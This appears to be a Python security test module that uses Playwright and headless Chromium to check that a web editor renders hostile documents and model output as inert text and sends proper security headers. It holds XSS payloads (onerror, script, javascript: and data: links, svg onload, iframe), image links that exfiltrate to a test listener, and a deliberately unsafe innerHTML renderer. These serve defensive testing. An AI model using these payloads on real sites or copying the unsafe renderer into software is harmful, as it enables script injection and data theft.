"""Group 8, rendering: the web editor in headless Chromium shows hostile documents and model output (raw HTML,
``<img onerror>``, ``javascript:`` links, SVG, Markdown images pointing at a listener) as text: no script runs,
no external image loads, links keep only http(s)/mailto; every page carries the Content-Security-Policy. Checked
with the policy enforced and with it bypassed, so the rendering itself is safe, not only the policy."""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from typing import Any

from .core import Findings, Sentinel, Target, bearer

CHROMIUM = os.environ.get("DRAFTSMITH_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-dev-shm-usage",
]
# Replaces the safe renderer with the naive one a probe must catch (used by the "protection off" test).
UNSAFE_RENDER = """
export function safeHref(raw) { return raw; }
export function renderText(container, text) { container.innerHTML = String(text ?? ""); }
export function renderMarkdown(container, text) {
  container.innerHTML = String(text ?? "").replace(/!\\[([^\\]]*)\\]\\(([^)]*)\\)/g, '<img alt="$1" src="$2">');
}
"""


# -- driving the editor (a CodeMirror view in #editor) ----------------------------------------------------------
EDITOR = "#editor .cm-content"  # the editable element: click, type and fill here


def fill_editor(page: Any, text: str) -> None:
    """Replace the editor's text with ``text`` as the browser's input would (not typed key by key)."""
    page.fill(EDITOR, text)


def editor_text(page: Any) -> str:
    """The editor's whole text (read through the view: the DOM only holds the lines on screen)."""
    return page.evaluate("window.draftsmithEditor.text()")


def editor_selection(page: Any) -> str:
    """The selected text."""
    return page.evaluate("(() => { const s = window.draftsmithEditor.selection(); "
                         "return window.draftsmithEditor.slice(s.from, s.to); })()")  # fmt: skip


def select_in_editor(page: Any, start: int, end: int) -> None:
    page.evaluate("([a, b]) => window.draftsmithEditor.select(a, b)", [start, end])


def expect_editor_text(page: Any, text: str, timeout: float = 10_000) -> None:
    """Wait until the editor holds ``text``; fails showing what it holds instead."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    try:
        page.wait_for_function(
            "t => window.draftsmithEditor && window.draftsmithEditor.text() === t", arg=text, timeout=timeout
        )
    except PlaywrightTimeout:
        held = page.evaluate("window.draftsmithEditor ? window.draftsmithEditor.text() : null")
        raise AssertionError(f"the editor holds {held!r}, expected {text!r}") from None


def chromium_available() -> str | None:
    """Why the rendering probe cannot run here, or None when it can."""
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "Playwright is not installed (pip install 'draftsmith[browser]')"
    if not Path(CHROMIUM).exists():
        return f"no Chromium at {CHROMIUM} (apt-get install chromium)"
    return None


def hostile_markdown(sentinel: Sentinel) -> str:
    return "\n".join(
        [
            "# Notes",
            '<img src=x onerror="window.__pwned=1">',
            "<script>window.__pwned=2</script>",
            "[click](javascript:window.__pwned=3)",
            "[data](data:text/html,<script>window.__pwned=4</script>)",
            '<svg onload="window.__pwned=5"></svg>',
            '<iframe src="javascript:window.__pwned=6"></iframe>',
            f"![exfil]({sentinel.url}/exfil.png?doc=secret)",
            f'<img src="{sentinel.url}/raw.png">',
            "[ok](https://example.org/page)",
        ]
    )


def _unsafe_renderer(route: Any) -> None:
    route.fulfill(status=200, content_type="text/javascript", body=UNSAFE_RENDER)


def rendering_is_inert(t: Target, sentinel: Sentinel, *, unsafe_renderer: bool = False) -> Findings:
    """Opens a hostile document (editor and preview) and runs an operation whose output is hostile (the fake
    model echoes its input), in two browser contexts: CSP enforced and CSP bypassed."""
    from playwright.sync_api import sync_playwright

    f = Findings("rendering")
    payload = hostile_markdown(sentinel)
    with t.client(t.keys.alice) as client:
        doc = client.post("/api/documents", json={"title": '<img src=x onerror="window.__pwned=7">', "text": payload})
        f.check(doc.status_code == 201, f"could not create the hostile document: {doc.status_code}")
        doc_id = doc.json()["id"]
        for path in ("/", "/static/app.js", "/api/documents", "/healthz", "/no/such/page", "/docs"):
            headers = client.get(path).headers
            policy = headers.get("content-security-policy", "")
            f.check("script-src 'self'" in policy and "'unsafe-inline'" not in policy, f"{path}: CSP {policy!r}")
            f.check("img-src 'self' data:" in policy, f"{path}: the CSP lets images load from elsewhere")
            f.check(headers.get("x-content-type-options") == "nosniff", f"{path}: no nosniff")
            f.check(headers.get("x-frame-options") == "DENY", f"{path}: framing allowed")
    before = sentinel.connections
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            for bypass in (False, True):
                where = "CSP bypassed" if bypass else "CSP enforced"
                context = browser.new_context(bypass_csp=bypass)
                if unsafe_renderer:
                    context.route("**/static/render.js", _unsafe_renderer)
                key = t.keys.alice
                context.add_init_script(f"sessionStorage.setItem('draftsmith.apiKey', {key!r})")
                page = context.new_page()
                page.set_default_timeout(15_000)
                requests: list[str] = []
                errors: list[str] = []
                page.on("request", lambda r, seen=requests: seen.append(r.url))
                page.on("pageerror", lambda e, seen=errors: seen.append(str(e)))
                try:
                    _exercise(page, t.base_url, doc_id, payload, f, where)
                except Exception as exc:
                    f.check(False, f"{where}: the editor did not behave: {type(exc).__name__}: {str(exc)[:200]}")
                page.wait_for_timeout(300)  # let any image error or navigation fire
                pwned = page.evaluate("typeof window.__pwned === 'undefined' ? null : window.__pwned")
                f.check(pwned is None, f"{where}: hostile script ran (window.__pwned = {pwned})")
                outside = [u for u in requests if not u.startswith((t.base_url + "/", "data:"))]
                f.check(not outside, f"{where}: the page fetched {outside[:3]}")
                shown = "#output, #preview, #editor"
                count = page.locator(f":is({shown}) :is(img, script, iframe), svg").count()
                f.check(count == 0, f"{where}: {count} image/script/svg/iframe elements were rendered")
                hrefs = page.eval_on_selector_all("a[href]", "links => links.map(a => a.href)")
                bad = [h for h in hrefs if not h.startswith(("http://", "https://", "mailto:"))]
                f.check(not bad, f"{where}: unsafe links rendered: {bad[:3]}")
                f.check(not errors, f"{where}: page errors: {errors[:2]}")
                context.close()
        finally:
            browser.close()
    f.check(sentinel.connections == before, f"the browser connected to the sentinel {sentinel.connections - before}x")
    with t.client() as client:
        client.delete(f"/api/documents/{doc_id}", headers=bearer(t.keys.alice))
    return f


def _exercise(page: Any, base: str, doc_id: str, payload: str, f: Findings, where: str) -> None:
    from playwright.sync_api import expect

    page.goto(f"{base}/#doc={doc_id}")
    expect_editor_text(page, payload)
    page.click("#preview-toggle")
    preview = page.locator("#preview")
    expect(preview).to_contain_text("Notes")
    f.check("<script>" in preview.inner_text(), f"{where}: the preview did not show the raw HTML as text")
    page.click("#preview-toggle")
    page.click("[data-op=rewrite]")  # the fake model echoes the document back: hostile output
    output = page.locator("#output")
    expect(output).to_contain_text("Notes", timeout=30_000)
